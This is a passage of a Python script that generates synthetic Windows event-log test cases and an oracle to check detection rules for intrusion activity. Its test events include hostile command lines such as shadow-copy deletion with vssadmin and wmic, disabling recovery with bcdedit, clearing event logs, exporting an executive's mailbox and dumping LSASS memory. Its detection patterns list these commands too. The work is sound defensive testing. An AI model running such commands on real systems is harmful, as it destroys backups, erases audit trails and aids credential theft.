    for ip in ('10.20.4.17', '172.16.0.5', '172.31.255.254', '192.168.1.20', '127.0.0.1',
               '169.254.10.3', '100.64.0.1', '100.127.255.254', '::1', 'fe80::1c4a:9e2b:7d1:5a2',
               'fd12:3456:789a::1', 'febf::1', '-', '', '0.0.0.0', '::'):
        c.add(sec4624(c, jump, 10, ip, **rdp), [],
              'neg 5: 4624 type 10 from non-public %r' % ip)
    c.add(sec4624(c, jump, 3, '203.0.113.45', process='-', lpn='NtLmSsp ', auth='NTLM'), [],
          'neg 5: 4624 type 3 (network) from a public address')
    c.add(sec4624(c, jump, 7, '198.51.100.23', **rdp), [],
          'neg 5: 4624 type 7 (unlock) from a public address')

    # 6. kz_rdp_auth_from_public_address -----------------------------------------------
    k = 'kz_rdp_auth_from_public_address'
    c.add(rcm1149(c, jump, 'alice', 'CORP', '198.51.100.77'), [k], '1149 from 198.51.100.77')
    c.add(rcm1149(c, jump, 'administrator', '', '2a02:c7f:1234::9'), [k],
          '1149 from IPv6 2a02:c7f:1234::9, empty domain')
    c.add(rcm1149(c, jump, 'bob', 'CORP', '192.169.0.1'), [k],
          '1149 from 192.169.0.1 (just outside 192.168/16)')
    for ip in ('10.23.123.11', '192.168.56.101', '172.20.1.1', '127.0.0.1', '100.100.1.1',
               ''):
        c.add(rcm1149(c, jump, 'alice', 'CORP', ip), [],
              'neg 6: 1149 from non-public %r' % ip)

    # 7. kz_rdp_session_from_public_address --------------------------------------------
    k = 'kz_rdp_session_from_public_address'
    c.add(lsm(c, jump, 21, 'CORP\\alice', 3, '203.0.113.45'), [k],
          'LSM 21 logon from 203.0.113.45')
    c.add(lsm(c, jump, 25, 'CORP\\bob', 4, '2001:db8::8a2e:370:7334'), [k],
          'LSM 25 reconnect from IPv6 2001:db8::8a2e:370:7334')
    c.add(lsm(c, jump, 25, 'CORP\\alice', 3, '8.8.4.4'), [k], 'LSM 25 reconnect from 8.8.4.4')
    c.add(lsm(c, jump, 21, 'CORP\\alice', 1, 'LOCAL'), [], 'neg 7: LSM 21 console logon "LOCAL"')
    c.add(lsm(c, jump, 21, 'CORP\\alice', 2, '10.0.8.15'), [], 'neg 7: LSM 21 from 10.0.8.15')
    c.add(lsm(c, jump, 25, 'CORP\\alice', 2, '127.0.0.1'), [], 'neg 7: LSM 25 from 127.0.0.1')
    c.add(lsm(c, jump, 24, 'CORP\\alice', 3, '203.0.113.45'), [],
          'neg 7: LSM 24 (disconnect, wrong id) from a public address')
    c.add(lsm(c, jump, 22, 'CORP\\alice', 3, '203.0.113.45'), [],
          'neg 7: LSM 22 (shell start, wrong id) from a public address')

    # 8. kz_service_from_user_writable_path / 9. kz_remote_access_tool_service ------------
    k8, k9 = 'kz_service_from_user_writable_path', 'kz_remote_access_tool_service'
    c.add(sys7045(c, srv, 'WinUpdSvc', 'C:\\Users\\Public\\Libraries\\winupd.exe',
                  start='auto start'), [k8], '7045 ImagePath in \\Users\\Public\\')
    c.add(sys7045(c, srv, 'tmpsvc', 'C:\\WINDOWS\\TEMP\\x64svc.exe', start='auto start'),
          [k8], '7045 ImagePath C:\\WINDOWS\\TEMP\\ (upper case)')
    c.add(sys7045(c, srv, 'perfsvc', 'cmd.exe /c C:\\PerfLogs\\p.bat'), [k8],
          '7045 ImagePath in \\PerfLogs\\')
    c.add(sys7045(c, srv, 'rbsvc', 'C:\\$Recycle.Bin\\S-1-5-18\\svc.exe'), [k8],
          '7045 ImagePath in \\$Recycle.Bin\\')
    c.add(sys7045(c, ws, 'OneSync', '"c:\\users\\alice\\appdata\\roaming\\sync\\sync.exe" -k',
                  account='.\\alice'), [k8], '7045 ImagePath in \\appdata\\ (lower case)')
    c.add(sys7045(c, ws, 'AnyDesk', '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service',
                  start='auto start'), [k8, k9],
          '7045 AnyDesk from \\ProgramData\\ (both intents)')
    c.add(sys7045(c, ws, 'TeamViewer',
                  '"C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe"',
                  start='auto start'), [k9], '7045 TeamViewer in Program Files')
    c.add(sys7045(c, ws, 'ScreenConnect Client (3f2a9c1b7e4d6a08)',
                  '"C:\\Program Files (x86)\\ScreenConnect Client (3f2a9c1b7e4d6a08)\\'
                  'ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=203.0.113.8&p=8041"',
                  start='auto start'), [k9], '7045 ScreenConnect client service')
    c.add(sys7045(c, ws, 'SplashtopRemoteService',
                  '"C:\\Program Files (x86)\\Splashtop\\Splashtop Remote\\Server\\SRService.exe"',
                  start='auto start'), [k9], '7045 Splashtop')
    c.add(sys7045(c, ws, 'rustdesk', '"C:\\Program Files\\RustDesk\\rustdesk.exe" --service',
                  start='auto start'), [k9], '7045 RustDesk (lower-case service name)')
    c.add(sys7045(c, srv, 'AteraAgent', '"C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe"',
                  start='auto start'), [k9], '7045 AteraAgent')
    c.add(sys7045(c, ws, 'Client32', '"C:\\Program Files (x86)\\NetSupport\\NetSupport Manager\\client32.exe"',
                  start='auto start'), [k9], '7045 NetSupport client32.exe')
    c.add(sys7045(c, ws, 'chromoting',
                  '"C:\\Program Files (x86)\\Google\\Chrome Remote Desktop\\120.0.6099.9\\remoting_host.exe" --type=daemon',
                  start='auto start'), [k9], '7045 Chrome Remote Desktop remoting_host.exe')
    c.add(sys7045(c, ws, 'svc_anydesk_helper', 'C:\\Windows\\System32\\svchost.exe -k netsvcs'),
          [k9], '7045 service name contains "anydesk" (lower case)')
    # negatives
    c.add(sys7045(c, srv, 'MSSQL$SQLEXPRESS',
                  '"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.SQLEXPRESS\\MSSQL\\Binn\\sqlservr.exe" -sSQLEXPRESS',
                  start='auto start', account='NT Service\\MSSQL$SQLEXPRESS'), [],
          'neg 8/9: SQL Server in Program Files')
    c.add(sys7045(c, srv, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'), [],
          'neg 8/9: PSEXESVC in %SystemRoot%')
    c.add(sys7045(c, srv, 'BackupSvc', '\\\\fs01\\AppDataBackup\\agent.exe'), [],
          'neg 8: \\AppDataBackup\\ (not \\AppData\\)')
    c.add(sys7045(c, srv, 'tmpw', 'C:\\Windows\\Temporary\\tmp.exe'), [],
          'neg 8: \\Windows\\Temporary\\ (not \\Windows\\Temp\\)')
    c.add(sys7045(c, srv, 'pdsvc', 'C:\\ProgramDataX\\svc.exe'), [],
          'neg 8: \\ProgramDataX\\ (not \\ProgramData\\)')
    c.add(sys7045(c, ws, 'NSClient', '"C:\\Program Files\\NetSupport\\client64.exe"'), [],
          'neg 9: client64.exe (not client32.exe)')
    c.add(sys7045(c, ws, 'Splash Top Helper', '"C:\\Program Files\\Splash Top\\helper.exe"'), [],
          'neg 9: "Splash Top" with a space')
    c.add(sys7045(c, ws, 'remoting', '"C:\\Program Files\\Remote\\remoting_host.dll"'), [],
          'neg 9: remoting_host.dll (not .exe)')
    # wrong channel, same id: an Application-log 7045 of another provider
    s = system(c, ('ApplicationServiceMonitor', None, 'Application'), 7045, srv,
               qualifiers=0, keywords='0x80000000000000', pid=0, tid=0)
    c.add(event(s, {'Data': ['AnyDesk', 'C:\\Users\\Public\\AnyDesk.exe']}), [],
          'neg 8/9: Application channel event 7045 (wrong channel)')

    # 10. kz_security_log_cleared / 11. kz_eventlog_service_shutdown --------------------
    k10, k11 = 'kz_security_log_cleared', 'kz_eventlog_service_shutdown'
    dc = 'DC01.corp.example.com'
    c.add(log_cleared(c, dc, 'Administrator'), [k10], 'Security 1102 by Administrator')
    c.add(log_cleared(c, ws, 'alice', sid=USER_SID), [k10], 'Security 1102 by alice')
    c.add(service_shutdown(c, dc), [k11], 'Security 1100 on DC01')
    c.add(service_shutdown(c, ws), [k11], 'Security 1100 on WS0142')
    # negatives: System log cleared (104), other Eventlog ids, same ids on other channels
    s = system(c, ('Microsoft-Windows-Eventlog', '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}',
                   'System'), 104, dc, task=104, keywords='0x8000000000000000',
               pid=1244, tid=4672, user_sid=ADMIN_SID)
    ud = {'LogFileCleared': {'#attributes': {'xmlns': EVENTLOG_NS},
                             'SubjectUserName': 'Administrator', 'SubjectDomainName': DOMAIN,
                             'Channel': 'System', 'BackupPath': ''}}
    c.add(event(s, userdata=ud), [], 'neg 10: System 104 (System log cleared)')
    c.add(log_cleared(c, dc, 'Administrator', eid=1104), [], 'neg 10/11: Security 1104 (log full)')
    c.add(service_shutdown(c, dc, eid=1101), [], 'neg 11: Security 1101')
    s = system(c, ('Microsoft-Windows-TerminalServices-ClientActiveXCore',
                   '{28AA95BB-D444-4719-A36F-40462168127E}',
                   'Microsoft-Windows-TerminalServices-RDPClient/Operational'), 1102, ws,
               task=101, keywords='0x4000000000000000', pid=8212, tid=1180, user_sid=USER_SID,
               level=4)
    c.add(event(s, {'Name': 'Server', 'Value': '203.0.113.45'}), [],
          'neg 10: RDPClient/Operational 1102 (wrong channel, same id)')
    s = system(c, ('EventLog', None, 'System'), 6006, dc, qualifiers=32768,
               keywords='0x80000000000000', pid=0, tid=0)
    c.add(event(s, {'Data': [''], 'Binary': '0000000000000000'}), [], 'neg 11: System 6006 (EventLog stopped)')
    s = system(c, ('Microsoft-Windows-Eventlog', '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}',
                   'Application'), 1100, dc, task=103, keywords='0x4020000000000000')
    c.add(event(s, userdata={'ServiceShutdown': {'#attributes': {'xmlns': EVENTLOG_NS}}}), [],
          'neg 11: 1100 on the Application channel (wrong channel)')

    # 12. kz_shadow_copy_deletion -------------------------------------------------------
    k = 'kz_shadow_copy_deletion'
    cmd = 'C:\\Windows\\System32\\cmd.exe'
    c.add(sysmon1(c, srv, 'C:\\Windows\\System32\\vssadmin.exe',
                  'vssadmin.exe Delete Shadows /All /Quiet', cmd,
                  'cmd.exe /c vssadmin.exe Delete Shadows /All /Quiet', ofn='VSSADMIN.EXE',
                  integrity='High'), [k], 'Sysmon 1: vssadmin Delete Shadows /All /Quiet')
    c.add(sec4688(c, srv, 'C:\\Windows\\System32\\wbem\\WMIC.exe',
                  'WMIC.EXE SHADOWCOPY DELETE /nointeractive', cmd, elevation='%%1937',
                  label='S-1-16-12288'), [k], '4688: WMIC.EXE SHADOWCOPY DELETE (upper case)')
    c.add(sysmon1(c, srv, 'C:\\Windows\\System32\\wbadmin.exe',
                  'wbadmin  delete catalog -quiet', cmd, 'cmd.exe', ofn='WBADMIN.EXE',
                  integrity='High'), [k], 'Sysmon 1: wbadmin delete catalog -quiet')
    c.add(sec4688(c, srv, 'C:\\Windows\\System32\\bcdedit.exe',
                  'bcdedit.exe /set {default} recoveryenabled No', cmd,
                  elevation='%%1937', label='S-1-16-12288'),
          [k], '4688: bcdedit /set {default} recoveryenabled No')
    c.add(sysmon1(c, srv, 'C:\\Windows\\System32\\wbem\\WMIC.exe',
                  'wmic shadowcopy where "ID=\'{5B2C}\'" delete', cmd, 'cmd.exe', ofn='wmic.exe',
                  integrity='High'), [k], 'Sysmon 1: wmic shadowcopy where ... delete')
    c.add(sysmon1(c, srv, 'C:\\Windows\\System32\\cmd.exe',
                  'cmd.exe /c "vssadmin delete shadows /for=C: /quiet & bcdedit /set '
                  '{current} recoveryenabled no"', AV_SRV_DIR + 'OfcService.exe',
                  'OfcService.exe', ofn='Cmd.Exe', user='NT AUTHORITY\\SYSTEM',
                  integrity='System'),
          [k, 'kz_av_agent_spawns_shell'],
          'Sysmon 1: OfcService.exe -> cmd.exe running vssadmin + bcdedit (two intents)')
    # negatives
    c.add(sysmon1(c, srv, 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin list shadows',
                  cmd, 'cmd.exe', ofn='VSSADMIN.EXE'), [], 'neg 12: vssadmin list shadows')
    c.add(sec4688(c, srv, 'C:\\Windows\\System32\\vssadmin.exe',
                  'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10%', cmd),
          [], 'neg 12: 4688 vssadmin resize shadowstorage')
    c.add(sysmon1(c, srv, 'C:\\Windows\\System32\\wbem\\WMIC.exe',
                  'wmic shadowcopy list brief', cmd, 'cmd.exe', ofn='wmic.exe'),
          [], 'neg 12: wmic shadowcopy list brief')
    c.add(sysmon1(c, srv, 'C:\\Windows\\System32\\wbadmin.exe',
                  'wbadmin delete systemstatebackup -keepversions:3', cmd, 'cmd.exe',
                  ofn='WBADMIN.EXE'), [], 'neg 12: wbadmin delete systemstatebackup')
    c.add(sec4688(c, srv, 'C:\\Windows\\System32\\bcdedit.exe',
                  'bcdedit.exe /set {default} recoveryenabled yes', cmd),
          [], 'neg 12: 4688 bcdedit recoveryenabled yes')
    c.add(sysmon1(c, srv, 'C:\\Windows\\System32\\bcdedit.exe', 'bcdedit /enum all',
                  cmd, 'cmd.exe', ofn='bcdedit.exe'), [], 'neg 12: bcdedit /enum all')

    # 13. kz_mailbox_export_cmdlet ------------------------------------------------------
    k = 'kz_mailbox_export_cmdlet'
    ex = 'EXCH01.corp.example.com'
    c.add(exch(c, ex, 'New-MailboxExportRequest',
               '-Mailbox "ceo" -FilePath "\\\\EXCH01\\c$\\inetpub\\wwwroot\\aspnet_client\\c.pst"'),
          [k], 'MSExchange Management 1: New-MailboxExportRequest -Mailbox ceo')
    c.add(exch(c, ex, 'New-MailboxExportRequest',
               '-Mailbox "cfo" -ContentFilter "Subject -like \'*invoice*\'" -FilePath "\\\\10.0.0.5\\pst$\\cfo.pst"'),
          [k], 'MSExchange Management 1: New-MailboxExportRequest with ContentFilter')
    c.add(exch(c, ex, 'New-ManagementRoleAssignment',
               '-Role "Mailbox Import Export" -User "svc_backup"; '
               'new-mailboxexportrequest -Mailbox hr -FilePath \\\\fs01\\x\\hr.pst'),
          [k], 'MSExchange Management 1: lower-case new-mailboxexportrequest in Data[1]')
    c.add(exch(c, ex, 'Get-MailboxExportRequest', '-Status Completed'), [],
          'neg 13: Get-MailboxExportRequest')
    c.add(exch(c, ex, 'Remove-MailboxExportRequest', '-Identity "ceo\\MailboxExport"'), [],
          'neg 13: Remove-MailboxExportRequest')
    c.add(exch(c, ex, 'New-MailboxImportRequest', '-Mailbox ceo -FilePath \\\\fs01\\x\\ceo.pst'),
          [], 'neg 13: New-MailboxImportRequest')
    c.add(exch(c, ex, 'New-MailboxExportRequest', '-Mailbox "ceo" -FilePath "\\\\x\\y.pst"',
               eid=6), [], 'neg 13: event 6 (cmdlet failed) with New-MailboxExportRequest')
    c.add(exch(c, ex, 'New-MailboxExportRequest', '-Mailbox "ceo" -FilePath "\\\\x\\y.pst"',
               channel='Application', provider='MSExchange Common'), [],
          'neg 13: Application channel event 1 with New-MailboxExportRequest')

    # 14. kz_admin_share_access_by_user -------------------------------------------------
    k = 'kz_admin_share_access_by_user'
    fs = 'FS01.corp.example.com'
    c.add(sec5140(c, fs, 'alice', '\\\\*\\ADMIN$'), [k], '5140 alice on \\\\*\\ADMIN$')
    c.add(sec5140(c, fs, 'svc_deploy', '\\\\*\\C$', ip='10.20.4.99'), [k],
          '5140 svc_deploy on \\\\*\\C$')
    c.add(sec5140(c, fs, 'Administrator', '\\\\*\\c$', sid=ADMIN_SID), [k],
          '5140 Administrator on \\\\*\\c$ (lower case)')
    c.add(sec5140(c, fs, 'WS0142$', '\\\\*\\ADMIN$', sid=USER_SID[:-4] + '1107'), [],
          'neg 14: machine account WS0142$ on ADMIN$')
    c.add(sec5140(c, fs, 'alice', '\\\\*\\IPC$'), [], 'neg 14: alice on IPC$')
    c.add(sec5140(c, fs, 'alice', '\\\\*\\D$', local='\\??\\D:\\'), [], 'neg 14: alice on D$')
    c.add(sec5140(c, fs, 'alice', '\\\\*\\NOTADMIN$', local='C:\\Shares\\x'), [],
          'neg 14: alice on NOTADMIN$')
    c.add(sec5140(c, fs, 'alice', '\\\\*\\C$', eid=5145), [],
          'neg 14: 5145 (detailed share check, wrong id) on C$')

    # 15. kz_lsass_memory_access --------------------------------------------------------
    k = 'kz_lsass_memory_access'
    c.add(sysmon10(c, ws, 'C:\\Users\\alice\\Desktop\\procdump64.exe', '0x1fffff'), [k],
          'Sysmon 10: procdump64.exe 0x1fffff')
    c.add(sysmon10(c, ws, 'C:\\Windows\\Temp\\m.exe', '0x1010'), [k],
          'Sysmon 10: C:\\Windows\\Temp\\m.exe 0x1010')
    c.add(sysmon10(c, ws, 'C:\\Windows\\SysWOW64\\rundll32.exe', '0x1410'), [k],
          'Sysmon 10: SysWOW64\\rundll32.exe 0x1410 (SysWOW64 is not excluded)')
    c.add(sysmon10(c, ws, 'C:\\ProgramData\\x\\svc.exe', '0x1438'), [k],
          'Sysmon 10: ProgramData svc.exe 0x1438')
    c.add(sysmon10(c, ws, 'C:\\Program Files (x86)\\Tools\\dump.exe', '0x143a'), [k],
          'Sysmon 10: Program Files (x86) tool 0x143a (only C:\\Program Files\\ is excluded)')
    c.add(sysmon10(c, ws, 'C:\\Windows\\system32\\svchost.exe', '0x1410'), [],
          'neg 15: svchost.exe from C:\\Windows\\system32\\ (case)')
    c.add(sysmon10(c, ws, 'C:\\Program Files\\Windows Defender\\MsMpEng.exe', '0x1fffff'), [],
          'neg 15: MsMpEng.exe from Program Files')
    c.add(sysmon10(c, ws, 'C:\\Users\\alice\\Desktop\\procdump64.exe', '0x1000'), [],
          'neg 15: access 0x1000 (not in the list)')
    c.add(sysmon10(c, ws, 'C:\\Users\\alice\\Desktop\\procdump64.exe', '0x1f3fff'), [],
          'neg 15: access 0x1f3fff (not in the list)')
    c.add(sysmon10(c, ws, 'C:\\Users\\alice\\Desktop\\procdump64.exe', '0x1fffff',
                   target='C:\\Windows\\system32\\lsm.exe'), [],
          'neg 15: target lsm.exe')

    # 16. kz_ps_clear_eventlog ----------------------------------------------------------
    k = 'kz_ps_clear_eventlog'
    c.add(ps4104(c, ws, 'Clear-EventLog -LogName Security,System', level=3), [k],
          '4104: Clear-EventLog -LogName Security,System')
    c.add(ps4104(c, ws, 'foreach ($l in "Security","System") { wevtutil cl $l }'), [k],
          '4104: wevtutil cl $l')
    c.add(ps4104(c, ws, '& C:\\Windows\\System32\\wevtutil.exe cl "Windows PowerShell"'), [k],
          '4104: wevtutil.exe cl')
    c.add(ps4104(c, ws, '[System.Diagnostics.Eventing.Reader.EventLogSession]'
                        '::GlobalSession.ClearLog("Microsoft-Windows-Sysmon/Operational")'),
          [k], '4104: EventLogSession::GlobalSession.ClearLog')
    c.add(ps4104(c, ws, 'clear-eventlog security'), [k], '4104: clear-eventlog (lower case)')
    c.add(ps4104(c, ws, 'WEVTUTIL CLEAR-LOG Security'), [k],
          '4104: WEVTUTIL CLEAR-LOG (contains "wevtutil cl", upper case)')
    c.add(ps4104(c, ws, 'Clear-EventLog -LogName Application', prov=PWSH_CORE), [k],
          '4104 on PowerShellCore/Operational (ps_script covers PowerShell 7)')
    # negatives
    c.add(ps4104(c, ws, 'Get-EventLog -LogName Security -Newest 10'), [],
          'neg 16: Get-EventLog')
    c.add(ps4104(c, ws, 'wevtutil qe Security /c:5 /f:text'), [], 'neg 16: wevtutil qe')
    c.add(ps4104(c, ws, 'Limit-EventLog -LogName Security -MaximumSize 1GB'), [],
          'neg 16: Limit-EventLog')
    c.add(ps4104(c, ws, 'Clear-Event-Log -Name Security  # not a cmdlet'), [],
          'neg 16: Clear-Event-Log (dash inside the word)')
    c.add(ps4104(c, ws, 'wevtutil el | Select-String Sysmon'), [], 'neg 16: wevtutil el')
    s = system(c, PWSH, 4103, ws, version=1, level=4, task=106, opcode=20, keywords='0x0',
               pid=7588, tid=9704, user_sid=USER_SID)
    c.add(event(s, {'ContextInfo': '        Severity = Informational\r\n        Host Name = '
                                   'ConsoleHost\r\n        Command Name = Clear-EventLog\r\n',
                    'UserData': '', 'Payload': 'CommandInvocation(Clear-EventLog): '
                                               '"Clear-EventLog"\r\nParameterBinding'
                                               '(Clear-EventLog): name="LogName"; value="Security"'}),
          [], 'neg 16: 4103 (module logging, wrong id) Clear-EventLog')
    s = system(c, ('PowerShell', None, 'Windows PowerShell'), 800, ws, qualifiers=0,
               task=8, keywords='0x80000000000000', pid=0, tid=0)
    c.add(event(s, {'Data': ['Clear-EventLog -LogName Security',
                             '\tDetailSequence=1\r\n\tHostApplication=powershell.exe\r\n',
                             'CommandInvocation(Clear-EventLog): "Clear-EventLog"']}),
          [], 'neg 16: Windows PowerShell 800 (classic, wrong channel) Clear-EventLog')

    # Events that must not trigger anything: everyday noise of the same channels ---------
    c.add(sysmon1(c, ws, 'C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p',
                  'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe',
                  user='NT AUTHORITY\\SYSTEM', integrity='System'), [],
          'noise: services.exe -> svchost.exe')
    c.add(sec4624(c, jump, 2, '127.0.0.1', process='C:\\Windows\\System32\\svchost.exe'), [],
          'noise: 4624 type 2 (interactive)')
    return c


# --- oracle: the intents evaluated in plain Python on the JSON, to catch labelling mistakes ---

AV = ('pccntmon.exe', 'ntrtscan.exe', 'tmlisten.exe', 'tmccsf.exe', 'tmpfw.exe',
      'ofcservice.exe', 'tmbmsrv.exe', 'cntaosmgr.exe')
BROWSERS = ('\\chrome.exe', '\\msedge.exe', '\\firefox.exe', '\\iexplore.exe')


def is_public(a):
    import ipaddress
    if a in ('', '-', '::', '0.0.0.0'):
        return False
    try:
        ip = ipaddress.ip_address(a)
    except ValueError:
        return False
    nets = ('10.0.0.0/8', '172.16.0.0/12', '192.168.0.0/16', '127.0.0.0/8', '169.254.0.0/16',
            '100.64.0.0/10', '::1/128', 'fe80::/10', 'fc00::/7')
    return not any(ip.version == ipaddress.ip_network(n).version and
                   ip in ipaddress.ip_network(n) for n in nets)


def oracle(ev):
    e = ev['Event']
    sy, d, u = e['System'], e.get('EventData') or {}, e.get('UserData') or {}
    eid = sy['EventID']['#text'] if isinstance(sy['EventID'], dict) else sy['EventID']
    ch = sy['Channel']
    g = lambda k: str(d.get(k, '')).lower()  # noqa: E731
    out = set()
    sysmon = ch == SYSMON[2]
    proc = (sysmon and eid == 1) or (ch == 'Security' and eid == 4688)
    if proc:
        img = g('Image') if sysmon else g('NewProcessName')
        par = g('ParentImage') if sysmon else g('ParentProcessName')
        cmd = g('CommandLine')
        if par.endswith(AV) and img.endswith(tuple('\\' + n for n in (
                'cmd.exe', 'powershell.exe', 'pwsh.exe', 'wscript.exe', 'cscript.exe',
                'mshta.exe', 'rundll32.exe', 'regsvr32.exe'))):
            out.add('kz_av_agent_spawns_shell')
        if img.endswith(BROWSERS) and not img.startswith(
                ('c:\\program files\\', 'c:\\program files (x86)\\')) and not any(
                x in img for x in ('\\appdata\\local\\google\\chrome\\application\\',
                                   '\\appdata\\local\\microsoft\\edge\\application\\',
                                   '\\appdata\\local\\mozilla firefox\\')):
            out.add('kz_browser_outside_install_dir')
        if any(all(w in cmd for w in ws) for ws in (
                ('vssadmin', 'delete', 'shadows'), ('wmic', 'shadowcopy', 'delete'),
                ('wbadmin', 'delete', 'catalog'), ('bcdedit', 'recoveryenabled', 'no'))):
            out.add('kz_shadow_copy_deletion')
    if sysmon and eid == 1:
        if ((g('OriginalFileName') in ('powershell.exe', 'pwsh.dll') or
             g('Description') == 'windows powershell') and
                g('Image').endswith(BROWSERS + ('\\opera.exe', '\\brave.exe'))):
            out.add('kz_powershell_renamed_as_browser')
    if sysmon and eid == 11:
        if g('Image').endswith(AV) and g('TargetFilename').endswith(
                ('.exe', '.dll', '.ps1', '.bat', '.vbs', '.hta', '.js')) and \
                '\\trend micro\\' not in g('TargetFilename'):
            out.add('kz_av_agent_drops_executable')
    if sysmon and eid == 10:
        if g('TargetImage').endswith('\\lsass.exe') and g('GrantedAccess') in (
                '0x1010', '0x1410', '0x1438', '0x143a', '0x1fffff') and not g(
                'SourceImage').startswith(('c:\\windows\\system32\\', 'c:\\program files\\')):
            out.add('kz_lsass_memory_access')
    if ch == 'Security' and eid == 4624 and str(d.get('LogonType')) == '10' and \
            is_public(d.get('IpAddress', '')):
        out.add('kz_rdp_logon_from_public_address')
    if ch == RCM[2] and eid == 1149 and is_public(u['EventXML']['Param3']):
        out.add('kz_rdp_auth_from_public_address')
    if ch == LSM[2] and eid in (21, 25) and is_public(u['EventXML']['Address']):
        out.add('kz_rdp_session_from_public_address')
    if ch == 'System' and eid == 7045:
        ip, sn = g('ImagePath'), g('ServiceName')
        if any(x in ip for x in ('\\users\\public\\', '\\appdata\\', '\\programdata\\',
                                 '\\windows\\temp\\', '\\perflogs\\', '\\$recycle.bin\\')):
            out.add('kz_service_from_user_writable_path')
        if any(x in ip or x in sn for x in ('anydesk', 'teamviewer', 'screenconnect',
                                            'splashtop', 'rustdesk', 'ateraagent',
                                            'client32.exe', 'remoting_host.exe')):
            out.add('kz_remote_access_tool_service')
    if ch == 'Security' and eid == 1102:
        out.add('kz_security_log_cleared')
    if ch == 'Security' and eid == 1100:
        out.add('kz_eventlog_service_shutdown')
    if ch == 'MSExchange Management' and eid == 1 and any(
            'new-mailboxexportrequest' in str(x).lower() for x in d.get('Data', [])):
        out.add('kz_mailbox_export_cmdlet')
    if ch == 'Security' and eid == 5140 and g('ShareName').endswith(('\\admin$', '\\c$')) \
            and not g('SubjectUserName').endswith('$'):
        out.add('kz_admin_share_access_by_user')
    if ch in (PWSH[2], PWSH_CORE[2]) and eid == 4104:
        t = g('ScriptBlockText')
        if any(x in t for x in ('clear-eventlog', 'wevtutil cl', 'wevtutil.exe cl',
                                '::globalsession.clearlog')):
            out.add('kz_ps_clear_eventlog')
    return out


def main(argv):
    if len(argv) != 2:
        sys.stderr.write('usage: make_cases.py OUTDIR\n')
        return 2
    out = argv[1]
    os.makedirs(out, exist_ok=True)
    c = build()
    bad = 0
    for ev, expect, summary in c.items:
        o = oracle(ev)
        if o != set(expect):
            sys.stderr.write('make_cases: label %s != oracle %s: %s\n' %
                             (sorted(expect), sorted(o), summary))
            bad += 1
    if bad:
        return 1
    opts = W.JsonOptions()
    path = os.path.join(out, 'cases.evtx')
    tmp = path + '.tmp'
    w = W.EvtxWriter(tmp, first_record_id=FIRST_RECORD_ID)
    records = []
    for ev, expect, summary in c.items:
        rid = w.add(W.event_from_json(ev, opts))[3]
        records.append({'record_id': rid, 'expect': expect, 'summary': summary})
    w.close()
    os.replace(tmp, path)
    doc = {'evtx': 'cases.evtx', 'intents': INTENTS, 'records': records}
    with open(os.path.join(out, 'expect.json'), 'w', encoding='utf-8') as f:
        json.dump(doc, f, indent=1, ensure_ascii=False)
        f.write('\n')
    npos = {k: sum(1 for r in records if k in r['expect']) for k in INTENTS}
    low = [k for k, n in npos.items() if n < 2]
    sys.stderr.write('make_cases: %d records (%d with no detection) -> %s\n' %
                     (len(records), sum(1 for r in records if not r['expect']), out))
    if low:
        sys.stderr.write('make_cases: intents with < 2 positives: %s\n' % ', '.join(low))
        return 1
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv))
